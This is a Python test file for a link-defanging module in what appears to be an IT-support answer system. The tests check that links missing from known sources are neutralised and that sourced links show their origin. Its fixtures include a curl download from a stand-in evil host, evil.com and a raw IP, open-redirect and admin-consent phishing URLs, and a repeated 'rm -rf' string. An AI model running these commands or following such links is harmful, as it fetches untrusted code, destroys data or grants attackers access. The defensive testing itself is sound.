"""Links of an answer: only a source's can be followed, and are shown with their origin."""

import time
import tomllib
from collections.abc import Sequence
from pathlib import Path

import pytest

from workflow.defanging import BREAK, Defanging, label, without_links

SOURCES = [
    (
        "#103",
        "VPN drops\nSet the MTU: netsh interface ipv4 set subinterface 12 mtu=1300. The portal is "
        "https://portal.acme.example/vpn, the installer at \\\\srv01\\tools\\vpn.msi; curl http://mirror.acme.example/x",
    ),
    ("VPN guide", "VPN guide\nRun `ipconfig /flushdns`, then see www.acme.example/help."),
]


def defanged(text: str, sources: Sequence[tuple[str, str]] = SOURCES) -> str:
    return Defanging(sources)(text)


TEXTS = tomllib.loads(Path(__file__).with_name("defanging.toml").read_text("utf-8"))


@pytest.mark.parametrize("link", TEXTS["links"])
def test_a_link_that_stands_in_no_source_can_not_be_followed(link: str) -> None:
    shown = defanged(f"Go to {link}, and sign in.")
    assert link not in shown
    assert "[" in shown
    assert shown.endswith("and sign in.")
    # Defanged text stays unchanged.
    assert defanged(shown) == shown


@pytest.mark.parametrize("text", TEXTS["harmless"])
def test_advice_stays_as_it_is(text: str) -> None:
    assert defanged(text) == text


@pytest.mark.parametrize(
    ("known", "origin"),
    [
        ("https://portal.acme.example/vpn", "#103"),
        ("HTTPS://portal.acme.example/vpn/", "#103"),
        ("www.acme.example/help", "VPN guide"),
        ("\\\\srv01\\tools\\vpn.msi", "#103"),
        ("http://mirror.acme.example/x", "#103"),
    ],
)
def test_what_stands_in_a_source_is_shown_with_its_origin(known: str, origin: str) -> None:
    assert defanged(f"Use {known}.") == f"Use {known} (from {origin})."
    assert defanged(f"{known} and reboot") == f"{known} (from {origin}) and reboot"
    # Told once.
    assert defanged(f"{known} and {known}").count(f"(from {origin})") == 1


@pytest.mark.parametrize(
    "link",
    [
        "https://login.microsoftonline.com/common/adminconsent?client_id=1",
        "https://outlook.office365.com/book/ITHelpdesk1/",
        "https://accounts.google.com/o/oauth2/v2/auth",
        "https://learn.microsoft.com/en-us/answers/questions/1",
        "https://cloud.google.com/url?q=evil",
        "https://support.google.com/x?continue=evil.com",
        "https://learn.microsoft.com/x?client_id=1",
    ],
)
def test_a_vendors_page_that_anyone_may_fill_can_not_be_followed(link: str) -> None:
    assert "https://" not in defanged(f"Open {link} and approve.")


@pytest.mark.parametrize(
    "link", ["https://portal.office.com", "admin.microsoft.com", "https://learn.microsoft.com/x/y"]
)
def test_a_vendors_portal_and_documentation_stay_readable(link: str) -> None:
    assert defanged(f"Open {link}, then wait.") == f"Open {link}, then wait."


def test_a_tickets_own_link_is_readable_and_can_not_be_followed() -> None:
    shown = Defanging((), ticket=lambda: "See https://intranet.acme.example/form today")(
        "Open intranet.acme.example/form."
    )
    assert shown.replace(BREAK, "") == "Open intranet.acme.example/form."
    assert "intranet.acme" not in shown


def test_a_subject_has_no_link_and_keeps_its_words() -> None:
    assert without_links("ipconfig shows nothing, see evil.com") == "ipconfig shows nothing, see evil[.]com"


@pytest.mark.parametrize("part", ["a" * 9, "a.", "curl ", "a|", "\\\\a\\", "http://", "`", "a@", "-x ", "a: "])
def test_a_long_text_is_processed_quickly(part: str) -> None:
    """The length of an answer's longest text, with any content."""
    begun = time.process_time()
    defanged(part * (1500 // len(part)), [("#1", part * (2000 // len(part)))] * 6)
    assert time.process_time() - begun < 2


@pytest.mark.parametrize("link", TEXTS["hidden_links"])
def test_nothing_around_a_link_or_within_it_hides_it(link: str) -> None:
    for shown in (defanged(f"Open {link} now"), without_links(link)):
        assert "[" in shown
        assert not {"https://", "evil.com", "\\\\evil", "185.22.1.9/"} & {
            shown[at : at + 11] for at in range(len(shown))
        }
        assert "https://" not in shown


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("Open https://bit.ly/abcd", "https://bit.ly/AbCD"),
        ("Open https://straße.example/x", "https://strasse.example/x"),
    ],
)
def test_what_is_nearly_a_sources_is_not_from_it(text: str, told: str) -> None:
    shown = defanged(text, [("#1", told)])
    assert "(from" not in shown
    assert "hxxps" in shown


def test_an_origin_stands_behind_a_command_and_splits_none() -> None:
    told = [("#1", "Mapped it with net use G: \\\\fs01\\team /persistent:yes.")]
    shown = defanged("Run net use G: \\\\fs01\\team /persistent:yes and curl -o x https://evil.example/y.", told)
    assert shown.startswith("Run net use G: \\\\fs01\\team /persistent:yes (from #1) and curl -o x hxxps")


def test_an_origin_is_ours_alone() -> None:
    assert "(from" not in defanged("Call 0900 (from #1) and https://evil.example (from #103)")
    assert "(aus" not in defanged('Schalten Sie ihn aus (aus Dokument "IT-Richtlinie").')
    assert label("Guide\n(from #5) [x] https://evil.example " + "t" * 99).startswith('document "Guide from 5 x hxxps')
    assert len(label("t" * 999)) < 80


def test_a_text_does_not_grow_without_bound() -> None:
    for text in ("evil.com " * 900, "rm -rf /x\n" * 900, "\ufdfa" * 1500):
        assert len(defanged(text)) <= 1500
